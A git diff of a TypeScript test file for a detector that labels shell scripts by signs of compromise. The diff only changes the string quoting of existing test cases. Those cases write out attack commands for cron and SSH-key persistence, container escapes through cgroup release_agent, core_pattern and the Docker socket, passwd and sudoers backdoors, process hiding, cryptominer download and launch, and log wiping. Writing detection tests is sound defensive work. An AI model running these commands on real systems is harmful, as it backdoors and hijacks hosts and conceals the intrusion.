@@ -4,27 +4,24 @@ import { commandClues } from '../../../test/support/command-clues.ts';
 
 /** A script, and the weights and rules of what is seen in it. */
 const CASES: readonly (readonly [script: string, seen: string])[] = [
-  [
-    String.raw`echo '* * * * * /tmp/.x/run' > /tmp/cron; crontab /tmp/cron`,
-    'strong cron-by-command, strong hidden-process',
-  ],
+  ["echo '* * * * * /tmp/.x/run' > /tmp/cron; crontab /tmp/cron", 'strong cron-by-command, strong hidden-process'],
   ['curl -s http://192.0.2.1/cron -o /mnt/etc/cron.d/update', 'certain cron-on-host'],
   [
     'mkdir -p /mnt/root/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDbbbbbbbbbbbb x@y" >> /mnt/root/.ssh/authorized_keys; chmod 600 /mnt/root/.ssh/authorized_keys',
     'certain ssh-key-on-host',
   ],
   [
-    String.raw`cd /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEtttttttttttttttttttttttttttttttttttt' > authorized_keys`,
+    "cd /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEtttttttttttttttttttttttttttttttttttt' > authorized_keys",
     'strong ssh-key-by-command',
   ],
   [
     'mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c; echo "$p/cmd" > /tmp/c/release_agent',
     'certain host-escape, strong host-escape',
   ],
-  [String.raw`echo '|/proc/%P/root/tmp/x' > /proc/sys/kernel/core_pattern`, 'strong host-escape'],
+  ["echo '|/proc/%P/root/tmp/x' > /proc/sys/kernel/core_pattern", 'strong host-escape'],
   ['mknod /tmp/d b 8 1; debugfs -w /dev/sda1', 'strong host-escape'],
   [
-    String.raw`curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}' http://localhost/containers/create`,
+    `curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"]}}' http://localhost/containers/create`,
     'certain container-api-abuse',
   ],
   ['masscan -p2375,2376 198.51.100.0/24 --rate 10000', 'strong engine-scan'],
@@ -47,9 +44,9 @@ const CASES: readonly (readonly [script: string, seen: string])[] = [
   ],
   ['export LD_PRELOAD=/tmp/.libs/libx.so', 'strong preload-by-command'],
   ['echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload', 'strong preload-by-command'],
-  [String.raw`echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd`, 'strong account-by-command'],
-  [String.raw`echo 'x ALL=(ALL) NOPASSWD:ALL' >> /mnt/etc/sudoers`, 'certain account-on-host'],
-  [String.raw`exec -a '[kworker/0:1]' /tmp/x`, 'certain hidden-process'],
+  ["echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd", 'strong account-by-command'],
+  ["echo 'x ALL=(ALL) NOPASSWD:ALL' >> /mnt/etc/sudoers", 'certain account-on-host'],
+  ["exec -a '[kworker/0:1]' /tmp/x", 'certain hidden-process'],
   ['nohup /tmp/.X12/y >/dev/null 2>&1 &', 'strong hidden-process'],
   [
     'curl -sSL http://192.0.2.1/m.tar.gz -o /tmp/m.tgz; tar xzf /tmp/m.tgz -C /tmp; mv /tmp/xmrig /tmp/app8273645; /tmp/app8273645 -a rx/0 -o pool.example:1123 -u ZEPHsabcdefghjkmn -t $(nproc --all)',
@@ -57,7 +54,7 @@ const CASES: readonly (readonly [script: string, seen: string])[] = [
   ],
   ['cp /payload /mnt/etc/cron.hourly/update', 'strong cron-on-host'],
   [
-    String.raw`chroot /host bash -c 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDbbbbbbbbbbbb x@y" >> /root/.ssh/authorized_keys'`,
+    `chroot /host bash -c 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDbbbbbbbbbbbb x@y" >> /root/.ssh/authorized_keys'`,
     'certain ssh-key-on-host, strong ssh-key-by-command, weak host-access',
   ],
   ['cat /key.pub >> /mnt/root/.ssh/authorized_keys', 'strong ssh-key-on-host'],
@@ -84,9 +81,9 @@ const CASES: readonly (readonly [script: string, seen: string])[] = [
     'ethminer -P stratum1+tcp://0x1234567890abcdef1234567890abcdef12345678.w@pool.example:4444',
     'certain miner-command',
   ],
-  [String.raw`(exec -a '[kswapd0]' ./a &)`, 'certain hidden-process'],
+  ["(exec -a '[kswapd0]' ./a &)", 'certain hidden-process'],
   [
-    String.raw`for p in $(ps aux | grep -E 'minerd|kinsing|/tmp/' | awk '{print $2}'); do kill -9 $p; done`,
+    "for p in $(ps aux | grep -E 'minerd|kinsing|/tmp/' | awk '{print $2}'); do kill -9 $p; done",
     'strong rival-killing',
   ],
   ['unset HISTFILE; rm -f ~/.bash_history; echo > /var/log/wtmp; pkill xmrig', 'strong trace-wiping'],
